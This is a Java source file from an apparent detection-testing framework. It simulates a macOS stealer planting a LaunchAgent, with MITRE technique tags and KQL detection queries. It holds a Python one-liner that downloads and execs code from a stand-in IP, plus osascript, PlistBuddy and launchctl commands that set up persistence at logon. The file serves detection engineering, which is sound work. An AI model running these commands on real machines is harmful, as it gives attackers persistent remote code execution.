package org.conshelf.simulate;

import java.util.List;

/// A launch agent that a script writes, as most stealers for macOS do.
final class LaunchAgent {
    private static final String LABEL = "com.example.keychain.helper";
    private static final String CODE =
            "import urllib.request as u;exec(u.urlopen('http://203.0.113.66/a').read())";

    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "launch-agent",
                            "A launch agent written by osascript that runs Python code")
                    .on(SimulatedTest.Platform.MACOS)
                    .techniques("T1543.001", "T1569.001")
                    .behaviour(
                            """
                            Without root's rights a shell that osascript runs writes a property list into the user's LaunchAgents,
                            PlistBuddy adds RunAtLoad, and launchctl loads it. launchd runs Python with code that is fetched
                            from another host, at every logon.
                            """)
                    .signal(
                            "A property list comes into being in a user's LaunchAgents, written by a shell.",
                            """
                            DeviceFileEvents
                            | where ActionType == "FileCreated" and FolderPath matches regex @"^/Users/[^/]+/Library/LaunchAgents/"
                            | where InitiatingProcessFileName == "sh"
                            """)
                    .signal(
                            "PlistBuddy sets RunAtLoad.",
                            """
                            DeviceProcessEvents
                            | where FileName == "PlistBuddy" and ProcessCommandLine has_all ("RunAtLoad", "true", "LaunchAgents")
                            """)
                    .signal(
                            "Python runs by way of xpcproxy with code in its command.",
                            """
                            DeviceProcessEvents
                            | where InitiatingProcessFileName == "xpcproxy" and FileName startswith "python" and ProcessCommandLine has "urlopen"
                            """)
                    .commands(
                            """
                            osascript -e 'do shell script "cp /tmp/agent.plist ~/Library/LaunchAgents/com.example.keychain.helper.plist"'
                            /usr/libexec/PlistBuddy -c "Add :RunAtLoad bool true" ~/Library/LaunchAgents/com.example.keychain.helper.plist
                            launchctl load ~/Library/LaunchAgents/com.example.keychain.helper.plist
                            """)
                    .cleanUp(
                            """
                            launchctl unload ~/Library/LaunchAgents/com.example.keychain.helper.plist
                            rm -f ~/Library/LaunchAgents/com.example.keychain.helper.plist /tmp/agent.plist
                            """)
                    .plays(stage -> MacDesk.onEachMac(stage, LaunchAgent::play));

    private LaunchAgent() {}

    private static void play(MacDesk desk) {
        var host = desk.host();
        var plist = desk.home() + "/Library/LaunchAgents/" + LABEL + ".plist";
        var script = "do shell script \"cat > " + plist + " < /tmp/agent.plist\"";
        var osascript = desk.types("osascript", "-e", script);
        var sh = host.run(osascript, "sh", "-c", "cat > " + plist + " < /tmp/agent.plist");
        host.created(sh, plist);
        var buddy = desk.types("PlistBuddy", "-c", "Add :RunAtLoad bool true", plist);
        host.modified(buddy, plist);
        var load = desk.types("launchctl", "load", plist);
        host.loaded(load, desk.domain(), plist, "/usr/bin/python3");
        host.started(desk.domain(), LABEL, List.of("/usr/bin/python3", "-c", CODE), "", true);
        host.stage().pass(90_000);
        desk.types("launchctl", "unload", plist);
        host.removed(desk.domain(), LABEL);
        var rm = desk.types("rm", "-f", plist);
        host.deleted(rm, plist);
    }
}
